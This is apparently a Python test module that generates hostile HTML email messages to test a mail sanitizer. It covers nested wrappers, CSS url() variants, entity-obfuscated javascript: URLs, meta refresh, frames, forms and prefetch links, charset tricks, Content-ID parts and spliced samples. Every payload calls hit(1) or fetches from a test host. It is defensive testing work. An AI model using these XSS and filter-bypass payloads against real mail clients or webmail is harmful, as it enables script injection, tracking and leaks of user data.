"""Hostile letters by class, made from seeds: whole messages, since charsets, cids and parts are ways to attack too.

Every sample tries to call `hit(1)` or to fetch something from `reached.out.test`, which the test's browser leads to
a server that counts.
"""

import itertools
import random
from collections.abc import Iterator

from tests.mail import hostile

HOST = hostile.HOST
RUN = "hit(1)"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{HOST}/svg.png"/></svg>'
_PAYLOADS = (f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>", f"<svg onload={RUN}>", f"<img src={HOST}/i.png>",
             f"<style>@import '{HOST}/s.css'</style>", f"<iframe src={HOST}/f></iframe>")  # fmt: skip
_PROPERTIES = [
    "background",
    "background-image",
    "border-image",
    "border-image-source",
    "list-style",
    "list-style-image",
    "content",
    "cursor",
    "filter",
    "mask",
    "mask-image",
    "-webkit-mask-image",
    "clip-path",
    "shape-outside",
    "offset-path",
    "src",
    "-moz-binding",
    "behavior",
    "fill",
    "stroke",
    "marker",
    "text-decoration",
    "background-color",
    "color",
    "font",
    "font-family",
    "width",
    "transition",
    "animation",
]
_URLS = ("url({})", "url('{}')", 'url("{}")', "u\\72l({})", "\\75\\72\\6c({})", "url(/**/{})", "image-set('{}' 1x)",
         "-webkit-image-set(url({}) 1x)", "image('{}')", "cross-fade(url({}),url({}),50%)", "src('{}')", "var(--x,url({}))",
         "element(#{})", "attr(title url)", "env(x,url({}))")  # fmt: skip
_CHARSETS = ["utf-7", "utf-16le", "utf-16be", "utf-32le", "utf-8", "iso-2022-jp", "iso-2022-kr", "hz-gb-2312", "gbk", "gb18030", "big5", "euc-kr", "shift_jis", "windows-1252", "windows-1258", "koi8-r", "us-ascii", "cp037", "cp500", "x-user-defined", "x-mac-roman", "unknown-8bit", "viscii"]  # fmt: skip
_LEADERS = ("", "\ufeff", "\x1b$B", "\x1b(J", "~{", "\x0e", "+/v8-", "\x00", "\u2028", "\x0c")
_REFRESH = (
    "0;url={}",
    "0; URL='{}'",
    "0;{}",
    " 0 ; url = {}",
    "0,url={}",
    "0\t;\turl={}",
    "00;url={}",
    ".0;url={}",
)
_FRAMES = (
    "<form action={h}/f target=_top><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
    "<form id=f action={h}/f></form><input form=f type=image src={h}/i><button form=f formtarget=_top>x</button>",
    "<a href={h}/a target=_top>x</a>", "<a href={h}/a target=_parent>x</a>", "<a href={h}/a target=open>x</a>", "<base href={h}/ target=_top><a href=x>y</a><img src=i.png>",
    "<iframe src={h}/f sandbox='allow-top-navigation allow-scripts'></iframe>", "<iframe srcdoc='<meta http-equiv=refresh content=0;url={h}/r>'></iframe>",
    "<object data={h}/o type=text/html></object>", "<embed src={h}/e type=application/pdf>", "<frameset onload=hit(1)><frame src={h}/f></frameset>", "<portal src={h}/p></portal>", "<fencedframe src={h}/f></fencedframe>",
    "<link rel=preconnect href={h}>", "<link rel=preload as=image href={h}/p.png>", "<link rel=prerender href={h}/p>", "<link rel=manifest href={h}/m>", "<link rel=icon href={h}/i.ico>", "<link rel=modulepreload href={h}/m.js>",
    "<link rel=stylesheet href={h}/s.css>", '<script type=speculationrules>{{"prefetch":[{{"urls":["{h}/s"]}}]}}</script>', "<meta name=referrer content=unsafe-url><img src={h}/r.png>", "<img src={h}/r.png referrerpolicy=unsafe-url>",
    "<a ping={h}/ping href={h}/a>x</a>", "<video src={h}/v autoplay></video>", "<audio src={h}/a autoplay></audio>", "<picture><source srcset={h}/s><img src={h}/i></picture>", "<img srcset='{h}/a 1x, {h}/b 2x' sizes=100vw>",
    "<img src=//reached.out.test/i>", "<img src=/\\reached.out.test/i>", "<img src='https:reached.out.test/i'>", "<img src='http:/reached.out.test/i'>", "<img src='&#x2f;&#47;reached.out.test/i'>", "<img src='\t//reached.out.test/i'>",
    "<input type=image src={h}/i>", "<table background={h}/t><td background={h}/d>x", "<body background={h}/b>", "<isindex action={h}/x>", "<html manifest={h}/m>", "<applet code=x codebase={h}/>", "<bgsound src={h}/b>", "<layer src={h}/l>",
    "<xml id=x src={h}/x>", "<?xml-stylesheet href='{h}/x.css'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM '{h}/e'>]><p>&e;", "<svg><use href={h}/u#x /></svg>", "<svg><feImage href={h}/f /></svg>", "<math><maction actiontype=statusline xlink:href=javascript:hit(1)>x",
    "<template shadowrootmode=open><slot></slot><style>:host{{background:url({h}/s)}}</style></template>", "<details open ontoggle=hit(1)><summary>x", "<dialog open onclose=hit(1)><form method=dialog><button autofocus>x", "<button popovertarget=p autofocus>x</button><div id=p popover onbeforetoggle=hit(1)>y",
)  # fmt: skip

Sample = tuple[str, bytes]


def samples() -> Iterator[Sample]:
    """Yield every class's letters: the class, and the message."""
    for name, make in _CLASSES.items():
        for page in make():
            yield name, page if isinstance(page, bytes) else letter(page)


def letter(page: str, *, charset: str = "utf-8", octets: bytes | None = None) -> bytes:
    """Return a message whose only part is HTML."""
    body = page.encode("utf-8", "surrogatepass") if octets is None else octets
    return _message(f'text/html; charset="{charset}"', body)


def _message(content_type: str, body: bytes) -> bytes:
    import base64  # noqa: PLC0415 -- here only

    head = (
        f"From: x@dan.example\r\nTo: binh@ubnd.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: {content_type}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    return head.encode() + base64.encodebytes(body).replace(b"\n", b"\r\n")


def _nested() -> Iterator[str]:
    """Put payloads into two wrappers: what one parser closes another may leave open (mutation)."""
    wrappers = hostile._WRAPPERS
    for outer, inner, payload in itertools.product(wrappers, wrappers, _PAYLOADS):
        yield outer.replace("{}", inner.replace("{}", payload))


def _styles() -> Iterator[str]:
    for name, url in itertools.product(_PROPERTIES, _URLS):
        value = url.replace("{}", f"{HOST}/{name}")
        yield f'<p style="{name}: {value.replace(chr(34), "&quot;")}">x</p>'
        yield f"<style>p{{{name}:{value}}}</style><p>x</p>"
        yield f'<p style="color:red;{name}/**/:/**/{value.replace(chr(34), "&#34;")};--x:1">x</p>'


def _entities() -> Iterator[str]:
    """Spell `javascript:` in mixed cases, entities, blanks and comments."""
    chance = random.Random(20260302)  # noqa: S311 -- no secret
    spell = (str, str.upper, lambda c: f"&#{ord(c)};", lambda c: f"&#x{ord(c):x};", lambda c: f"&#{ord(c):07d}", lambda c: f"\t{c}", lambda c: f"{c}&NewLine;", lambda c: f"\x01{c}", lambda c: f"{c}&#0;")  # fmt: skip
    places = ('<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', "<form action='{}'><button autofocus>x", '<svg><a xlink:href="{}"><text y=9>x', "<a href={}>x</a>")  # fmt: skip
    for place in places:
        for _ in range(120):
            word = "".join(chance.choice(spell)(c) for c in "javascript:")
            yield place.replace("{}", f"{word}{RUN}//")
    for handler in ("onerror", "onload", "onfocus", "onpointerenter"):
        for gap in (
            " ",
            "/",
            "\t",
            "\n",
            "\x0c",
            "\x0b",
            "\xa0",
            "\u2003",
            "\x00",
            '"',
            "'",
            "`",
            "=",
            "//",
            "/x=",
            "\x1f",
        ):
            yield f"<img src=x{gap}{handler}={RUN}>"
            yield f"<input autofocus{gap}{handler}{gap}={gap}{RUN}>"


def _refreshes() -> Iterator[str]:
    for form, address in itertools.product(
        _REFRESH, (f"{HOST}/r", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>")
    ):
        for head in ("", "<head>", "<svg>", "<noscript>", "<!doctype html><html><head>"):
            yield f'{head}<meta http-equiv="refresh" content="{form.replace("{}", address)}">'
            yield f'{head}<META HTTP-EQUIV=&#82;efresh CONTENT="{form.replace("{}", address)}">'


def _frames() -> Iterator[str]:
    for page in _FRAMES:
        sample = (
            page.replace("{{", "\0")
            .replace("}}", "\1")
            .replace("{h}", HOST)
            .replace("\0", "{")
            .replace("\1", "}")
        )
        for before in ("", "<p>", "<table>", "<svg></svg>", "<select>", "<math><mtext>", "</body></html>"):
            yield before + sample


def _charsets() -> Iterator[bytes]:
    for charset, leader, payload in itertools.product(_CHARSETS, _LEADERS, _PAYLOADS[:4]):
        for encoding in {charset, "utf-8", "utf-7", "utf-16le"}:
            try:
                octets = (leader + payload).encode(encoding)
            except (LookupError, UnicodeError):
                continue
            yield letter("", charset=charset, octets=octets)


def _pieces() -> Iterator[bytes]:
    """Parts that the text points at: a picture that is a drawing, a page, a style sheet; ids with signs in them."""
    ids = (
        "a@b",
        "a%40b",
        "a b",
        'a"onerror=hit(1)',
        "../html",
        "x'>",
        "a@b#x",
        "A@B",
        "&lt;",
        "javascript:hit(1)",
    )
    kinds = (
        "image/svg+xml",
        "image/png",
        "text/html",
        "text/css",
        "image/png; x=svg",
        "IMAGE/SVG+XML",
        "image/x-icon",
        "application/xml",
    )
    uses = ("<img src='cid:{}'>", "<iframe src='cid:{}'></iframe>", "<object data='cid:{}'></object>", "<style>@import 'cid:{}'</style>", "<a href='cid:{}'>x</a>", "<svg><use href='cid:{}#x'/></svg>")  # fmt: skip
    for given, kind, use in itertools.product(ids, kinds, uses):
        parts = (
            f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{use.replace('{}', given)}\r\n"
            f"--b\r\nContent-Type: {kind}\r\nContent-ID: <{given}>\r\n\r\n{SVG}\r\n--b--\r\n"
        )
        head = "From: x@dan.example\r\nTo: binh@ubnd.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        yield f'{head}Content-Type: multipart/related; boundary="b"\r\n\r\n{parts}'.encode()


def _together() -> Iterator[str]:
    """Cut samples and put the halves of two together."""
    chance = random.Random(20260303)  # noqa: S311 -- no secret
    every = list(hostile.samples())
    for _ in range(1_500):
        one, other = chance.choice(every), chance.choice(every)
        yield one[: chance.randrange(len(one) + 1)] + other[chance.randrange(len(other)) :]


_CLASSES = {
    "scripts, handlers, addresses": hostile.samples,
    "nesting": _nested,
    "style": _styles,
    "entities": _entities,
    "refresh": _refreshes,
    "frames, forms, base, prefetch": _frames,
    "charset": _charsets,
    "cid": _pieces,
    "cut and joined": _together,
}
